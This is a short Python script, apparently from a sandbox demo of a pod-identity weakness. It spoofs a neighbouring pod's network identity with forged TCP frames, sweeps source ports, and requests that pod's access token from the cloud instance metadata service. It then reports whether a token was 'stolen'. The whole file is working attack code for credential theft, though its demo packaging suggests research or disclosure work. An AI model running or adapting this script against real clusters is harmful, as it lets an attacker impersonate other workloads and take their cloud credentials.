"""Opens a connection in a neighbour's name from each of its ports, and asks for a token on it.

    scan.py ADDRESS FIRST LAST

Takes the neighbour's address by ARP. Prints how often each status came, and whether a token did.
"""

from __future__ import annotations

import json
import sys
import time
from collections import Counter

from podidentity_sandbox.demo.forger import IMDS, TOKEN, gateway, own
from podidentity_sandbox.demo.frames import ACK, PSH, SYN, SYN_ACK, Wire

AT_ONCE = 200
REQUEST = f"GET {TOKEN} HTTP/1.1\r\nHost: {IMDS[0]}\r\nMetadata: true\r\n\r\n".encode()


def scan(victim: str, ports: range) -> tuple[Counter[str], str]:
    """Return the statuses that came, and a token's answer if one did."""
    mac, mine = own()
    wire, via = Wire(mac, victim), Wire(mac, mine).resolve(gateway(), time.monotonic() + 60)
    seen: Counter[str] = Counter()
    for first in range(ports.start, ports.stop, AT_ONCE):
        wire.request_arp(gateway())
        for port in range(first, min(first + AT_ONCE, ports.stop)):
            wire.send_tcp(via, IMDS, port, (port, 0), SYN)
        for segment in wire.segments(IMDS[0], 0.15):
            numbers = segment.acknowledged, segment.sequence + 1
            if segment.flags & SYN_ACK == SYN_ACK:
                wire.send_tcp(via, IMDS, segment.port, numbers, ACK | PSH, data=REQUEST)
            elif segment.data.startswith(b"HTTP/1.1 "):
                status = segment.data[9:12].decode()
                seen[status] += 1
                if status == "200":
                    return seen, segment.data.partition(b"\r\n\r\n")[2].decode()
    return seen, ""


if __name__ == "__main__":
    claim, lowest, highest = sys.argv[1:]
    statuses, stolen = scan(claim, range(int(lowest), int(highest) + 1))
    print(json.dumps({"statuses": statuses, "stolen": "access_token" in stolen}))
